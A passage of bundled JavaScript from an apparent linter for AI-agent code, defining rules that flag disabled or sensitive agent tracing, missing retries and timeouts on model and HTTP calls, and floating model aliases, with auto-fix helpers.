					...spanOf(firstRun),
					message: `The model runs through ${route}, but Runner.run* still exports model inputs/outputs and tool data to OpenAI's trace backend by default (trace_include_sensitive_data=True) and nothing in this module turns it off; pass RunConfig(trace_include_sensitive_data=False) or set ${ENV_SETTING}=0.`,
					fingerprintContent: "default|Runner.run",
					...edit ? { fix: {
						description: "run_config=RunConfig(trace_include_sensitive_data=False) on Runner.run*",
						edits: [edit],
						pythonImports: [{
							from: "agents",
							names: ["RunConfig"]
						}]
					} } : { fixability: "structural" }
				});
			}
			return;
		}
		if (!tsImportsFrom(tsImportMap(tree), (module) => module.startsWith("@openai/agents"))) return;
		for (const call of callExpressions(tree)) for (const index of [
			0,
			1,
			2
		]) {
			const value = objectProperty(tsOptions(call, index), "traceIncludeSensitiveData");
			if (value?.type === "true") explicit(value, "traceIncludeSensitiveData: true", "false");
		}
	}
});
// src/rules/policy/tracing-disabled.ts
/** Another trace pipeline in the module: tracing is replaced, not dropped. */
var REPLACEMENT = /add_trace_processor|set_trace_processors|addTraceProcessor|setTraceProcessors|opentelemetry|@opentelemetry|openinference|logfire|langfuse|arize|phoenix|agentops|braintrust|weave\.init|langsmith|mlflow|traceloop|openlit|helicone|OTEL_EXPORTER/i;
var TRUTHY_ENV = /^(1|true|yes|on)$/i;
// src/rules/policy/index.ts
var POLICY_CHECKS = [
	promptOrMessagesLoggedCheck,
	sensitiveTracingEnabledCheck,
	defineRule({
		id: "policy/tracing-disabled",
		title: "Agent tracing switched off with no replacement",
		description: "OpenAI Agents SDK tracing is turned off (set_tracing_disabled(True), RunConfig(tracing_disabled=True), OPENAI_AGENTS_DISABLE_TRACING=1 set in code; JS setTracingDisabled(true) / tracingDisabled: true) and the module registers no other trace processor or instrumentation (add_trace_processor, set_trace_processors, OpenTelemetry, Logfire, Langfuse, Arize, AgentOps, Braintrust, LangSmith, MLflow). Without traces there is no record of which tools an agent called with which arguments, which audits and incident reviews need. Tracing is on by default, so only an explicit switch-off is flagged. A Python module that serves its model outside OpenAI (custom base_url, Azure OpenAI, LitellmModel, AnyLLMModel, a litellm/ or any-llm/ model) is not flagged: the built-in exporter would send those prompts to OpenAI, a service the model calls never reach, and needs an OpenAI key such setups do not have, so switching it off is the documented step, not a gap.",
		persona: "governance",
		category: "policy",
		severity: "note",
		fixability: "structural",
		tags: ["LLM02:2025", "CWE-778"],
		remediation: "Keep tracing on with trace_include_sensitive_data=False, or route spans to your own backend with set_trace_processors([...]) / an OpenTelemetry or Logfire/Langfuse integration instead of disabling it (e.g. when the OpenAI exporter has no key).",
		docs: "https://openai.github.io/openai-agents-python/tracing/",
		frameworks: ["openai-agents"],
		precision: "high"
	}, {
		textHas: [/tracing_disabled|DISABLE_TRACING|TracingDisabled|tracingDisabled/],
		textLacks: [REPLACEMENT],
		async runOnTree(context, tree) {
			const { file } = context;
			const report = (node, written) => context.report({
				...spanOf(node),
				message: `${written} turns agent tracing off and nothing in this module replaces it, so tool calls and model turns leave no audit trail.`,
				fingerprintContent: written
			});
			if (file.language === "python") {
				const imports = pythonImportMap(tree);
				if (pyNonOpenAiModelRoute(tree, imports)) return;
				for (const call of calls(tree)) {
					const qualified = qualifiedCallee(call, imports);
					if (/^agents(\.tracing)?\.set_tracing_disabled$/.test(qualified)) {
						if ((keywordArgument(call, "disabled") ?? positionalArguments(call)[0])?.type === "true") report(call, "set_tracing_disabled(True)");
					} else if (/^agents(\.run)?\.RunConfig$/.test(qualified)) {
						const value = keywordArgument(call, "tracing_disabled");
						if (value?.type === "true") report(value.parent ?? value, "RunConfig(tracing_disabled=True)");
					} else if (/^os\.(environ\.setdefault|putenv)$/.test(qualified)) {
						const [name, value] = positionalArguments(call);
						if (stringValue(name) === "OPENAI_AGENTS_DISABLE_TRACING" && TRUTHY_ENV.test(stringValue(value) ?? "")) report(call, "OPENAI_AGENTS_DISABLE_TRACING=1");
					}
				}
				for (const assignment of tree.rootNode.descendantsOfType("assignment")) {
					const left = assignment.childForFieldName("left");
					if (left?.type !== "subscript" || !/^os\.environ$/.test(left.childForFieldName("value")?.text ?? "")) continue;
					if (stringValue(left.childForFieldName("subscript") ?? void 0) !== "OPENAI_AGENTS_DISABLE_TRACING") continue;
					if (TRUTHY_ENV.test(stringValue(assignment.childForFieldName("right") ?? void 0) ?? "")) report(assignment, "OPENAI_AGENTS_DISABLE_TRACING=1");
				}
				return;
			}
			const imports = tsImportMap(tree);
			for (const call of callExpressions(tree)) {
				const qualified = tsQualifiedCallee(call, imports);
				if (/^@openai\/agents(-core)?#setTracingDisabled$/.test(qualified) && tsArguments(call)[0]?.type === "true") report(call, "setTracingDisabled(true)");
				else if (/^@openai\/agents(-core)?#(Runner|run)$/.test(qualified)) for (const index of [0, 2]) {
					const value = objectProperty(tsOptions(call, index), "tracingDisabled");
					if (value?.type === "true") report(value.parent ?? value, "tracingDisabled: true");
				}
			}
			for (const assignment of tree.rootNode.descendantsOfType("assignment_expression")) {
				const left = assignment.childForFieldName("left")?.text.replace(/\s+/g, "") ?? "";
				const right = assignment.childForFieldName("right");
				if (/^process\.env(\.OPENAI_AGENTS_DISABLE_TRACING|\[['"]OPENAI_AGENTS_DISABLE_TRACING['"]\])$/.test(left) && right && TRUTHY_ENV.test(right.text.replace(/^['"`]|['"`]$/g, ""))) report(assignment, "OPENAI_AGENTS_DISABLE_TRACING=1");
			}
		}
	}),
	piiFieldsToModelCheck
];
// src/rules/reliability/shared.ts
/** Fields every reliability rule shares. */
var RELIABILITY_BASE = {
	persona: "sre",
	category: "reliability"
};
function isPython(file) {
	return file.language === "python";
}
function isScript(file) {
	return file.language === "typescript" || file.language === "javascript";
}
function isYaml(file) {
	return /\.ya?ml$/i.test(file.path);
}
/** The last dotted segment: `client.chat.completions.create` → `create`. */
function lastSegment(name) {
	const index = name.lastIndexOf(".");
	return index === -1 ? name : name.slice(index + 1);
}
/** Short, stable text for a node in messages and fingerprints (never long code). */
function brief(text, max = 60) {
	const flat = text.replace(/\s+/g, " ").trim();
	return flat.length > max ? `${flat.slice(0, max - 1)}…` : flat;
}
// src/rules/reliability/adk-gemini-no-retry.ts
/** ADK's LLM agent classes, however imported (`google.adk.Agent`, `google.adk.agents.LlmAgent`, …). */
var ADK_AGENT = /^google\.adk(\.agents(\.llm_agent)?)?\.(LlmAgent|Agent)$/;
/** ADK's Gemini model adapter (`google.adk.models.Gemini`, `google.adk.models.google_llm.Gemini`). */
var ADK_GEMINI = /^google\.adk\.models(\.google_llm)?\.Gemini$/;
/** The right-hand sides of top-level `name = value` statements: module constants a model may be read from. */
function moduleValues(root, name) {
	const values = [];
	for (const statement of root.namedChildren) {
		if (statement.type !== "expression_statement") continue;
		const assignment = statement.namedChildren[0];
		if (assignment?.type !== "assignment" || assignment.childForFieldName("left")?.text !== name) continue;
		const right = assignment.childForFieldName("right");
		if (right) values.push(right);
	}
	return values;
}
/** A node, or the single module constant an identifier names; undefined when it cannot be known here. */
function resolveValue(node, root) {
	if (node.type !== "identifier") return node;
	const values = moduleValues(root, node.text);
	return values.length === 1 ? values[0] : void 0;
}
/** True when retries may be configured in a `generate_content_config` value (or we cannot tell). */
function configMayRetry(config, root) {
	const value = resolveValue(config, root);
	if (!value || value.type === "identifier" || value.type === "attribute") return true;
	if (value.type === "none") return false;
	return /retry_options/.test(value.text) || value.type === "call" && hasDictSplat(value);
}
var adkGeminiNoRetryCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/adk-gemini-no-retry",
	title: "ADK agent on Gemini without retry options",
	description: "A Google ADK `LlmAgent`/`Agent` runs on a Gemini model with no HTTP retry options: neither `Gemini(retry_options=types.HttpRetryOptions(...))` nor `generate_content_config=types.GenerateContentConfig(http_options=types.HttpOptions(retry_options=...))`. ADK passes `retry_options=None` to the google-genai client, which then makes exactly one attempt, so every 429 RESOURCE_EXHAUSTED (dynamic shared quota) or 503 UNAVAILABLE (\"model is overloaded\") fails the agent turn. Models held in variables the file does not define, or built by a factory, and files that handle model errors in an `on_model_error_callback` are not judged.",
	severity: "warning",
	fixability: "structural",
	tags: ["ASI08", "LLM10:2025"],
	remediation: "Give the model retries: `model=Gemini(model=\"gemini-3.5-flash\", retry_options=types.HttpRetryOptions(attempts=4, initial_delay=1, max_delay=30))` (`from google.adk.models import Gemini`, `from google.genai import types`), or set `http_options=types.HttpOptions(retry_options=...)` in the agent's `generate_content_config`. Keep attempts small and the delays bounded so a retry storm does not outlive the request.",
	docs: "https://google.github.io/adk-docs/agents/models/google-gemini/#error-code-429-resource_exhausted",
	frameworks: ["google-adk"],
	knows: [
		"google-adk ≥ 1.9.0: `Gemini(retry_options=types.HttpRetryOptions(...))`, passed to the client as `HttpOptions(retry_options=...)` (default None)",
		"google-genai ≥ 1.21.0: `HttpRetryOptions`; `retry_options=None` means one attempt (`stop_after_attempt(1)`); with options, default 5 attempts on 408/429/5xx",
		"google-genai ≥ 1.28.0: per-request `GenerateContentConfig(http_options=HttpOptions(retry_options=...))`, which ADK sends from `generate_content_config`"
	],
	precision: "high"
}, {
	appliesTo: isPython,
	textHas: [/google\.adk/, /Agent/],
	textLacks: [/on_model_error_callback/],
	async runOnTree(context, tree) {
		const root = tree.rootNode;
		const imports = pythonImportMap(tree);
		const reported = /* @__PURE__ */ new Set();
		const report = (node, message, fingerprint) => {
			if (reported.has(node.startIndex)) return;
			reported.add(node.startIndex);
			context.report({
				start: node.startIndex,
				end: node.endIndex,
				message,
				fingerprintContent: fingerprint
			});
		};
		for (const call of calls(tree)) {
			const agentClass = qualifiedCallee(call, imports);
			if (!ADK_AGENT.test(agentClass) || hasDictSplat(call)) continue;
			const written = keywordArgument(call, "model");
			if (!written) continue;
			const config = keywordArgument(call, "generate_content_config");
			if (config && configMayRetry(config, root)) continue;
			const model = resolveValue(written, root);
			if (!model) continue;
			const agentName = stringValue(keywordArgument(call, "name")) ?? "agent";
			const className = agentClass.slice(agentClass.lastIndexOf(".") + 1);
			if (model.type === "call" && ADK_GEMINI.test(qualifiedCallee(model, imports))) {
				if (hasDictSplat(model)) continue;
				const retry = keywordArgument(model, "retry_options");
				if (retry && retry.type !== "none" || keywordArgument(model, "client_kwargs")) continue;
				report(model, `${brief(model.text.split("\n")[0], 50)} has no retry_options, so the google-genai client behind ${className} '${agentName}' makes one attempt and a 429 RESOURCE_EXHAUSTED or 503 UNAVAILABLE fails the agent turn.`, `Gemini:no-retry:${agentName}`);
				continue;
			}
			const id = stringValue(model);
			if (!id || !normaliseModelId(id).startsWith("gemini")) continue;
			report(written, `${className} '${agentName}' runs on '${normaliseModelId(id)}' with no retry_options, so ADK's google-genai client makes one attempt and a 429 RESOURCE_EXHAUSTED or 503 UNAVAILABLE fails the agent turn.`, `model:no-retry:${agentName}`);
		}
	}
});
// src/rules/reliability/ai-sdk-call-no-timeout.ts
/** The AI SDK calls that go to a provider and return when it answers. */
var MODEL_CALLS = /* @__PURE__ */ new Set([
	"ai#generateText",
	"ai#streamText",
	"ai#generateObject",
	"ai#streamObject"
]);
/** `60000` → `60_000`, the way the AI SDK docs write milliseconds. */
function milliseconds$1(seconds) {
	return String(Math.round(seconds * 1e3)).replace(/\B(?=(\d{3})+(?!\d))/g, "_");
}
var aiSdkCallNoTimeoutCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/ai-sdk-call-no-timeout",
	title: "AI SDK call with no timeout",
	description: "A Vercel AI SDK generateText/streamText/generateObject/streamObject call passes neither `abortSignal` nor `timeout`. The AI SDK sets no request timeout of its own and retries only on errors (maxRetries, default 2), so a provider that accepts the request and stalls keeps the call, the agent turn and the serverless function open until the platform kills it.",
	severity: "warning",
	fixability: "one-click",
	tags: [
		"ASI08",
		"CWE-1088",
		"CWE-400"
	],
	remediation: "Bound every call: `abortSignal: AbortSignal.timeout(60_000)` (all AI SDK versions), or `timeout: 60_000` where your AI SDK version has it; pass the request's own signal (`req.signal`) in route handlers so a client that leaves cancels the call too.",
	docs: "https://ai-sdk.dev/docs/ai-sdk-core/settings",
	frameworks: ["vercel-ai-sdk"],
	knows: ["ai 3.x–7.x: `abortSignal` on generateText/streamText/generateObject/streamObject; no request timeout of its own, `maxRetries` default 2", "ai ≥ 6.0.14: `timeout` (ms), an object (`totalMs`, `stepMs`, `chunkMs`) from 6.0.16"],
	precision: "high"
}, {
	appliesTo: (file) => isScript(file),
	textHas: [/from\s+['"]ai['"]/],
	async runOnTree(context, tree) {
		const { file } = context;
		const imports = tsImportMap(tree);
		for (const call of callExpressions(tree)) {
			const written = tsCalleeText(call);
			if (!MODEL_CALLS.has(imports.get(written) ?? "")) continue;
			const options = tsArguments(call)[0];
			if (!options || options.type !== "object" || hasSpread(options)) continue;
			if (objectProperty(options, "abortSignal") || objectProperty(options, "timeout")) continue;
			const value = `AbortSignal.timeout(${milliseconds$1(context.heal.modelTimeoutSeconds)})`;
			const edits = addObjectProperty(options, file.text, "abortSignal", value);
			context.report({
				...spanOf(call),
				message: `${written}(...) passes neither abortSignal nor timeout; the AI SDK sets no request timeout, so a stalled provider holds the call open (maxRetries only covers errors).`,
				fingerprintContent: `${written}:no-timeout`,
				...edits ? { fix: {
					description: `abortSignal: ${value} on ${written}(...)`,
					edits
				} } : { fixability: "structural" }
			});
		}
	}
});
// src/rules/reliability/model-ids.ts
/** Keyword/property names that take a model id. */
var PY_MODEL_KEYWORDS = /* @__PURE__ */ new Set([
	"model",
	"model_name",
	"model_id",
	"llm",
	"deployment_name"
]);
var TS_MODEL_KEYS = /* @__PURE__ */ new Set([
	"model",
	"modelName",
	"modelId"
]);
/** Python callables whose first positional argument is a model id. */
var PY_MODEL_FIRST_ARG = /* @__PURE__ */ new Set([
	"ChatOpenAI",
	"AzureChatOpenAI",
	"ChatAnthropic",
	"ChatGoogleGenerativeAI",
	"ChatVertexAI",
	"ChatLiteLLM",
	"init_chat_model",
	"LiteLlm",
	"LLM",
	"GenerativeModel",
	"Gemini",
	"OpenAIModel",
	"OpenAIChatModel",
	"OpenAIResponsesModel",
	"AnthropicModel",
	"GeminiModel",
	"GoogleModel",
	"LiteLLMModel",
	"OpenAIServerModel",
	"completion",
	"acompletion"
]);
/** Pydantic AI `Agent('openai:gpt-4o')`: only a provider-prefixed first argument counts, so CrewAI/ADK Agent(...) are not confused. */
function looksPrefixed(value) {
	return /^[a-z][a-z0-9_-]*[:/][\w.@-]+$/i.test(value);
}
/** `MODEL = "..."`, `DEFAULT_MODEL_NAME = "..."`, `llm_model = "..."`. */
var MODEL_VARIABLE = /(^|_)(model|llm)(_name|_id)?$/i;
function pyLiteral(node) {
	const value = stringValue(node);
	return node && value ? {
		value,
		...spanOf(node)
	} : void 0;
}
function pythonModelIds(tree) {
	const found = [];
	const push = (use) => {
		if (use && !found.some((known) => known.start === use.start)) found.push(use);
	};
	for (const node of tree.rootNode.descendantsOfType([
		"keyword_argument",
		"pair",
		"assignment",
		"call"
	])) if (node.type === "keyword_argument") {
		if (PY_MODEL_KEYWORDS.has(node.childForFieldName("name")?.text ?? "")) push(pyLiteral(node.childForFieldName("value") ?? void 0));
	} else if (node.type === "pair") {
		const key = stringValue(node.childForFieldName("key") ?? void 0);
		if (key && PY_MODEL_KEYWORDS.has(key)) push(pyLiteral(node.childForFieldName("value") ?? void 0));
	} else if (node.type === "assignment") {
		const left = node.childForFieldName("left");
		const name = left?.type === "identifier" ? left.text : left?.type === "attribute" ? left.childForFieldName("attribute")?.text : void 0;
		if (name && MODEL_VARIABLE.test(name)) push(pyLiteral(node.childForFieldName("right") ?? void 0));
	} else {
		const name = lastSegment(calleeText(node));
		const first = positionalArguments(node)[0];
		if (PY_MODEL_FIRST_ARG.has(name)) push(pyLiteral(first));
		else if (name === "Agent") {
			const use = pyLiteral(first);
			if (use && looksPrefixed(use.value)) push(use);
		}
	}
	return found;
}
/** AI SDK provider factories: `openai('gpt-4o')`, `anthropic.messages('...')`, `google('gemini-2.5-flash')`. */
var TS_PROVIDER_MODULE = /^@ai-sdk\/|^@openrouter\/ai-sdk-provider$|^ollama-ai-provider/;
function tsModelIds(tree) {
	const found = [];
	const push = (node) => {
		const value = tsStringValue(node);
		if (node && value && !found.some((known) => known.start === node.startIndex)) found.push({
			value,
			...spanOf(node)
		});
	};
	const imports = tsImportMap(tree);
	for (const node of tree.rootNode.descendantsOfType([
		"pair",
		"call_expression",
		"variable_declarator"
	])) if (node.type === "pair") {
		const key = node.childForFieldName("key");
		const keyText = key?.type === "string" ? key.text.slice(1, -1) : key?.text;
		if (keyText && TS_MODEL_KEYS.has(keyText)) push(node.childForFieldName("value") ?? void 0);
	} else if (node.type === "variable_declarator") {
		const name = node.childForFieldName("name")?.text ?? "";
		if (/(^|_)(MODEL|LLM)(_NAME|_ID)?$/.test(name) || /^(default|)[mM]odel(Name|Id)?$/.test(name)) push(node.childForFieldName("value") ?? void 0);
	} else {
		const head = tsCalleeText(node).split(".")[0] ?? "";
		const source = imports.get(head) ?? "";
		if (TS_PROVIDER_MODULE.test(source.split("#")[0] ?? "")) push(tsArguments(node)[0]);
	}
	return found;
}
/** YAML `model:` / `llm:` / `model_name:` values (CrewAI agents.yaml, ADK agent configs, LiteLLM configs). Comments never match. */
function yamlModelIds(text) {
	const found = [];
	for (const match of text.matchAll(/^([ \t-]*)(model|llm|model_name|model_id)[ \t]*:[ \t]*(["']?)([A-Za-z0-9][\w.:/@-]*)\3[ \t]*(?:#.*)?$/gm)) {
		const value = match[4];
		const start = match.index + match[0].indexOf(value, match[1].length + match[2].length);
		found.push({
			value,
			start,
			end: start + value.length
		});
	}
	return found;
}
/** Every model id a file chooses, read from YAML text or from the Python/TypeScript tree. */
async function modelIdUsesOf(context) {
	if (isYaml(context.file)) return yamlModelIds(context.file.text);
	const tree = await context.tree();
	if (!tree) return [];
	return isPython(context.file) ? pythonModelIds(tree) : tsModelIds(tree);
}
// src/rules/reliability/model-id-rule.ts
/**
* The body of a rule that judges every model id a file chooses (Python, TS/JS and YAML agent config): `prefilter`
* skips files that cannot hold a judged id, and `judge` sees each id normalised (`id`) and as written (`written`).
* The fix swaps the id inside its string literal, provider prefix and quotes kept.
*/
function modelIdRule(prefilter, judge) {
	return {
		appliesTo: (file) => isPython(file) || isScript(file) || isYaml(file),
		textHas: [prefilter],
		async run(context) {
			const { file } = context;
			for (const use of await modelIdUsesOf(context)) {
				const id = normaliseModelId(use.value);
				const verdict = judge(id, use.value);
				if (!verdict) continue;
				const { replacement } = verdict;
				const healed = replacement ? replaceModelIdInLiteral(file.text.slice(use.start, use.end), id, replacement.id) : void 0;
				context.report({
					start: use.start,
					end: use.end,
					message: verdict.message,
					fingerprintContent: verdict.fingerprintContent,
					...replacement && healed !== void 0 ? { fix: {
						description: replacement.description,
						edits: [{
							start: use.start,
							end: use.end,
							text: healed
						}]
					} } : { fixability: "structural" }
				});
			}
		}
	};
}
// src/rules/reliability/model-pins.ts
/**
* Floating or preview model ids and the stable id that pins the same model, used by the
* reliability/floating-model-alias fix. Keys are normalised ids (lower case, provider prefix removed).
* Only pairs where the stable id serves the same model and is listed as a stable, served model on
* the provider's models page belong here. None does today (2026-12-04):
* - the Gemini previews that went GA under the same name (`gemini-3.1-flash-lite-preview`,
*   `gemini-3.1-flash-image-preview`, `gemini-3-pro-image-preview`) were shut down in May–June 2026,
*   so reliability/retired-model reports them and its fix writes the GA id;
* - `gemini-3-flash-preview`, `gemini-3.1-pro-preview`: no GA id of the same model exists;
* - OpenAI `*-chat-latest` and `*-preview` ids and Google `gemini-*-latest` aliases: no dated
*   snapshot of the same model is published.
*/
var MODEL_PINS = /* @__PURE__ */ new Map([]);
function pinnedModel(id) {
	return MODEL_PINS.get(id);
}
// src/rules/reliability/floating-model-alias.ts
/** Model-id shapes that move or disappear without a code change. */
var FLOATING_ALIAS_PATTERNS = [
	{
		pattern: /-latest$/,
		why: "a -latest alias is repointed to new snapshots without notice, so behaviour, cost and tool-calling change under the same code"
	},
	{
		pattern: /-preview(-[\w.-]+)?$/,
		why: "preview models can change and be retired on short notice (OpenAI: about 2 weeks; Google deprecates previews on release-note notice)"
	},
	{
		pattern: /-exp(-[\w.-]+)?$|^gemini-exp-/,
		why: "experimental models change without notice, have tight rate limits and are withdrawn when the next one ships"
	}
];
var PREFILTER = /-latest|-preview|-exp/;
var floatingModelAliasCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/floating-model-alias",
	title: "Floating or preview model alias in production code",
	description: "Production code selects a model through an id that moves or is short-lived: a `-latest` alias, a `-preview` model or an experimental `-exp` model. The same deployment then runs a different model tomorrow (behaviour, cost, tool-calling and refusal changes without a diff), or fails when the preview is withdrawn. Test files are not flagged.",
	severity: "warning",
	fixability: "structural",
	tags: ["LLM09:2025", "ASI08"],
	remediation: "Pin a dated snapshot or a GA id (`claude-haiku-4-5-20251001`, `claude-sonnet-4-6`, `gemini-3.5-flash`), keep it in one config value, and upgrade deliberately with an eval run. Heal pins only ids listed in model-pins.ts (a preview served as GA under the same name while the preview still runs; none today); other aliases have no certain stable id.",
	docs: "https://developers.openai.com/api/docs/deprecations",
	frameworks: [],
	knows: ["`-latest`, `-preview` and `-exp` ids; ids already shut down are left to reliability/retired-model"],
	precision: "high"
}, modelIdRule(PREFILTER, (id, written) => {
	if (retiredModel(written)) return void 0;
	const match = FLOATING_ALIAS_PATTERNS.find((entry) => entry.pattern.test(id));
	if (!match) return void 0;
	const pin = pinnedModel(id);
	return {
		message: `Model '${id}' is a floating or preview alias: ${match.why}.`,
		fingerprintContent: `floating:${id}`,
		replacement: pin ? {
			id: pin,
			description: `pin model '${id}' → '${pin}'`
		} : void 0
	};
}));
// src/rules/reliability/http-call-no-timeout.ts
var REQUESTS_METHODS = /* @__PURE__ */ new Set([
	"get",
	"post",
	"put",
	"patch",
	"delete",
	"head",
	"options",
	"request"
]);
var HTTPX_CALLS = /* @__PURE__ */ new Set([
	"get",
	"post",
	"put",
	"patch",
	"delete",
	"head",
	"options",
	"request",
	"stream",
	"Client",
	"AsyncClient"
]);
var httpCallNoTimeoutCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/http-call-no-timeout",
	title: "HTTP call that can wait forever",
	description: "A `requests` call or `urllib.request.urlopen` without a timeout, or an `httpx` call with `timeout=None`. requests and urlopen have no default timeout: a server that accepts the connection and never answers blocks the tool, the agent turn and the worker thread indefinitely. httpx defaults to 5 s and is only flagged when that default is switched off. aiohttp (300 s total by default) is not flagged.",
	severity: "warning",
	fixability: "one-click",
	tags: [
		"ASI08",
		"CWE-1088",
		"CWE-400"
	],
	remediation: "Pass `timeout=` on every call, e.g. `requests.get(url, timeout=(3.05, 30))`, `urlopen(url, timeout=30)`, `httpx.Client(timeout=httpx.Timeout(30.0, connect=5.0))`.",
	docs: "https://requests.readthedocs.io/en/latest/user/advanced/#timeouts",
	frameworks: [],
	knows: ["requests 2.x and `urllib.request.urlopen`: no default timeout", "httpx 0.x: 5 s default, flagged only for `timeout=None`; aiohttp (300 s total default) not flagged"],
	precision: "very-high"
}, {
	appliesTo: isPython,
	textHas: [/requests|urlopen|httpx/],
	async runOnTree(context, tree) {
		const { file } = context;
		const imports = pythonImportMap(tree);
		for (const call of calls(tree)) {
			const name = importedCallee(call, imports) ?? "";
			const [module, method, extra] = name.split(".");
			const timeout = keywordArgument(call, "timeout");
			let message;
			if (module === "requests" && method && REQUESTS_METHODS.has(method) && extra === void 0) {
				if (timeout === void 0 && !hasDictSplat(call)) message = `${name}(...) has no timeout=, and requests waits forever by default for a server that never answers.`;
				else if (timeout?.type === "none") message = `${name}(..., timeout=None) waits forever for a server that never answers.`;
			} else if (name === "urllib.request.urlopen") {
				if (timeout === void 0 && !hasDictSplat(call) && positionalArguments(call).length < 3) message = "urllib.request.urlopen(...) has no timeout=, so it uses the global socket default, which is no timeout at all.";
			} else if (module === "httpx" && method && HTTPX_CALLS.has(method) && extra === void 0 && timeout?.type === "none") message = `${name}(..., timeout=None) switches off the httpx 5 s default, so it waits forever for a server that never answers.`;
			if (!message) continue;
			const seconds = context.heal.httpTimeoutSeconds;
			const edit = timeout ? replaceNode(timeout, String(seconds)) : addKeywordArgument(call, file.text, "timeout", String(seconds));
			context.report({
				...spanOf(call),
				message,
				fingerprintContent: `${name}:${timeout ? "timeout-none" : "no-timeout"}`,
				...edit ? { fix: {
					description: `timeout=${seconds} on ${name}(...)`,
					edits: [edit]
				} } : {}
			});
		}
	}
});
// src/rules/reliability/missing-retry-on-http-tool.ts
var HTTP_CALL = /^(requests\.(get|post|put|patch|delete|head|request)|httpx\.(get|post|put|patch|delete|head|request|stream|Client|AsyncClient))$/;
/** Decorators that make a function a tool (ADK/OpenAI Agents/LangChain/CrewAI/MCP/Pydantic AI/smolagents). */
var TOOL_DECORATOR = /(^|\.)(tool|function_tool|tool_plain)$/;
/** Retry decorators: tenacity, backoff, stamina, retrying, retry. */
var RETRY_DECORATOR = /(^|\.)(retry|on_exception|on_predicate|retry_context)$/;
/** Transport-level retries configured anywhere in the module. */
var TRANSPORT_RETRY = /HTTPAdapter|urllib3\.util\.retry|from urllib3.*Retry|HTTPTransport\([^)]*retries|RetryTransport|retry_client|RetryClient/;
function toolNames(tree) {
	const names = /* @__PURE__ */ new Set();
	for (const call of calls(tree)) {
		const list = keywordArgument(call, "tools");
		if (list?.type !== "list") continue;
		for (const item of list.namedChildren) {
			if (item.type === "identifier") names.add(item.text);
			if (item.type === "call") for (const argument of item.descendantsOfType("identifier")) names.add(argument.text);
		}
	}
	return names;
}
function isCrewAiToolRun(fn) {
	const name = fn.childForFieldName("name")?.text;
	if (name !== "_run" && name !== "_arun") return false;
	const klass = fn.parent?.parent?.type === "class_definition" ? fn.parent.parent : fn.parent?.parent?.parent;
	return !!klass && klass.type === "class_definition" && /BaseTool/.test(klass.childForFieldName("superclasses")?.text ?? "");
}
/** A hand-written retry loop: the HTTP call sits in a try inside a for/while in the same function. */
function inRetryLoop(call, fn) {
	let sawTry = false;
	for (let current = call.parent; current && current !== fn; current = current.parent) {
		if (current.type === "try_statement") sawTry = true;
		if ((current.type === "for_statement" || current.type === "while_statement") && sawTry) return true;
	}
	return false;
}
var TENACITY_NAMES = [
	"retry",
	"retry_if_exception_type",
	"stop_after_attempt",
	"wait_exponential"
];
/**
* The transient errors of each HTTP library, the only ones the fix retries (a 4xx or a bug in the tool
* must not be repeated). requests: `ConnectionError` (ConnectTimeout is one) and `Timeout` (ReadTimeout);
* https://requests.readthedocs.io/en/latest/api/#exceptions. httpx: `TransportError`, the base of
* TimeoutException, NetworkError and ProtocolError; https://www.python-httpx.org/exceptions/.
*/
var TRANSIENT_ERRORS = {
	requests: ["exceptions.ConnectionError", "exceptions.Timeout"],
	httpx: ["TransportError"]
};
/**
* The exception types to retry on, spelled with the name the module has in this file (`import
* requests as rq` gives `rq.exceptions.Timeout`), and the imports to add when the module itself is
* not imported (`from requests import get`). Undefined when the module's name is taken by something else.
*/
function transientErrors(libraries, tree, imports) {
	const types = [];
	const needed = [];
	for (const library of [...libraries].sort()) {
		let alias = moduleLevelAlias(tree, library);
		if (!alias) {
			if (imports.has(library) && imports.get(library) !== library) return void 0;
			alias = library;
			needed.push({ module: library });
		}
		types.push(...TRANSIENT_ERRORS[library].map((name) => `${alias}.${name}`));
	}
	return {
		types,
		imports: needed
	};
}
/**
* True when one of the names the fix writes (`retry`, `stop_after_attempt`, `wait_exponential`) is
* already bound to something other than tenacity's, or tenacity's is imported under another name:
* then a plain `from tenacity import retry` would shadow or be shadowed, and the fix is not safe.
*/
function tenacityNamesTaken(tree, imports) {
	const wanted = new Set(TENACITY_NAMES);
	for (const [local, qualified] of imports) {
		if (wanted.has(local) && qualified !== `tenacity.${local}`) return true;
		const [module, name] = qualified.split(".");
		if (module === "tenacity" && name !== void 0 && wanted.has(name) && local !== name) return true;
	}
	for (const node of tree.rootNode.descendantsOfType(["function_definition", "class_definition"])) if (wanted.has(node.childForFieldName("name")?.text ?? "")) return true;
	for (const assignment of tree.rootNode.descendantsOfType(["assignment", "augmented_assignment"])) {
		const left = assignment.childForFieldName("left");
		if ((left?.type === "identifier" ? [left] : left?.descendantsOfType("identifier") ?? []).some((target) => wanted.has(target.text))) return true;
	}
	return false;
}
/** The name a top-level `import MODULE` / `import MODULE as NAME` binds, if there is one. */
function moduleLevelAlias(tree, module) {
	for (const statement of tree.rootNode.namedChildren) {
		if (statement.type !== "import_statement") continue;
		for (const child of statement.namedChildren) {
			if (child.type === "dotted_name" && child.text.split(".")[0] === module) return module;
			if (child.type === "aliased_import" && child.childForFieldName("name")?.text === module) return child.childForFieldName("alias")?.text;
		}
	}
}
/**
* `@retry(...)` on its own line directly above `def`/`async def`, below any `@tool` decorator, so the
* plain function is retried and the tool wraps the retried function.
*/
function retryDecoratorFix(fn, text, heal, errors) {
	const lineStart = text.lastIndexOf("\n", fn.startIndex - 1) + 1;
	const indent = text.slice(lineStart, fn.startIndex);
	if (!/^[ \t]*$/.test(indent)) return void 0;
	const newline = text.includes("\r\n") ? "\r\n" : "\n";
	const step = indent.includes("	") ? "	" : "    ";
	const decorator = [
		"@retry(",
		`${step}retry=retry_if_exception_type(${errors.types.length === 1 ? errors.types[0] : `(${errors.types.join(", ")})`}),`,
		`${step}stop=stop_after_attempt(${heal.toolRetryAttempts}),`,
		`${step}wait=wait_exponential(multiplier=1, max=${heal.toolRetryMaxWaitSeconds}),`,
		`${step}reraise=True,`,
		")"
	].map((line) => `${indent}${line}${newline}`);
	return {
		description: `retry transient errors (${heal.toolRetryAttempts} attempts, exponential backoff) on tool '${fn.childForFieldName("name")?.text ?? ""}'`,
		edits: [{
			start: lineStart,
			end: lineStart,
			text: decorator.join("")
		}],
		pythonImports: [...errors.imports, {
			from: "tenacity",
			names: [...TENACITY_NAMES]
		}]
	};
}
